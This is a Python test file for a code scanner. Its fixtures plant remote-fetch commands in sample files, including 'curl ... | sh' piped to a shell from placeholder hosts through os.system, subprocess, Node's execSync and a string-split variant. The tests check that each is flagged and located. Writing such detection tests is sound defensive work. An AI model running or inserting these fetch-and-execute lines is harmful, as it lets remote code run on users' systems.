"""Command lines inside programs: where a finding in one stands, and which hosts and programs it is seen to use."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from packtool.scan import ScanOptions, ScanReading, Subject, scan
from packtool.trees import read_tree

if TYPE_CHECKING:
    from pathlib import Path

PIPE = "remote-code-pipe-to-shell"
LINE = "curl -s https://x.example/i.sh | sh"
FILES = {
    "one_line.py": f'import os; os.system("{LINE}")\n',
    "lower.py": f'import subprocess\n\n\ndef go():\n    subprocess.run(\n        "{LINE}", shell=True\n    )\n',
    "listed.py": 'import subprocess\n\nsubprocess.run(["wget", "https://y.example/a", "-O", "/tmp/a"])\n',
    "put_together.py": 'import os\n\n\ndef go():\n    os.system("cu" + "rl -s https://x.example/i.sh | s" + "h")\n',
    "at_run_time.py": 'import os\n\n\ndef go(where):\n    os.system("curl -s " + where)\n',
    "threaded.py": "import threading\n\nthreading.Thread(target=print).start()\n",
    "go.js": f'const {{ execSync }} = require("child_process");\nexecSync("{LINE}");\n',
    "go.sh": "#!/bin/sh\nset -e\nif true; then\n  curl -s \\\n    https://w.example/i.sh -o x\nfi\n",
    "plugin.yaml": "name: x\ndescription: X.\n",
    "__init__.py": "from . import at_run_time, listed, lower, one_line, put_together, threaded\n"
    "STARTS = ['go.sh', 'go.js']\n",
}


@pytest.fixture(scope="module")
def reading(tmp_path_factory: pytest.TempPathFactory) -> ScanReading:
    folder: Path = tmp_path_factory.mktemp("lines")
    for name, text in FILES.items():
        (folder / name).write_text(text)
    (read,) = scan([Subject(tree=read_tree(folder), name="x")], ScanOptions())
    return read


def pointed_at(reading: ScanReading, path: str) -> list[tuple[int, str]]:
    """Return the line and the words that each finding of the rule points at in a file."""
    places = [one.location for one in reading.findings if one.rule.id == PIPE and one.location.path == path]
    lines = FILES[path].split("\n")
    return [(at.line or 0, lines[(at.line or 0) - 1][(at.column or 0) - 1 : (at.end_column or 0) - 1]) for at in places]


@pytest.mark.parametrize(("path", "line"), [("one_line.py", 1), ("go.js", 2)])
def test_what_stands_there_is_pointed_at(reading: ScanReading, path: str, line: int) -> None:
    assert pointed_at(reading, path) == [(line, LINE)]
    assert not any("Decoded" in one.message for one in reading.findings if one.location.path == path)


def test_what_is_put_together_is_the_statement(reading: ScanReading) -> None:
    statement = 'os.system("cu" + "rl -s https://x.example/i.sh | s" + "h")'
    assert pointed_at(reading, "put_together.py") == [(5, statement)]
    (found,) = [one for one in reading.findings if one.rule.id == PIPE and one.location.path == "put_together.py"]
    assert LINE in found.message


def test_a_call_of_several_lines_is_pointed_at_where_it_begins(reading: ScanReading) -> None:
    assert pointed_at(reading, "lower.py") == [(5, "subprocess.run(")]


@pytest.mark.parametrize(
    ("path", "hosts", "programs"),
    [
        ("one_line.py", ["x.example"], ["curl", "sh"]),
        ("lower.py", ["x.example"], ["curl", "sh"]),
        ("listed.py", ["y.example"], ["wget"]),
        ("put_together.py", ["x.example"], ["curl", "sh"]),
        ("at_run_time.py", ["computed"], ["curl"]),
        ("threaded.py", [], ["stays in the background: threading.Thread"]),
        ("go.js", ["x.example"], ["curl", "sh"]),
        ("go.sh", ["w.example"], []),
    ],
)
def test_hosts_and_programs(reading: ScanReading, path: str, hosts: list[str], programs: list[str]) -> None:
    seen = [(one.kind, one.detail) for one in reading.behaviours if one.path == path]
    assert sorted({detail for kind, detail in seen if kind == "network"}) == hosts
    assert sorted({detail for kind, detail in seen if kind == "subprocess"}) == programs
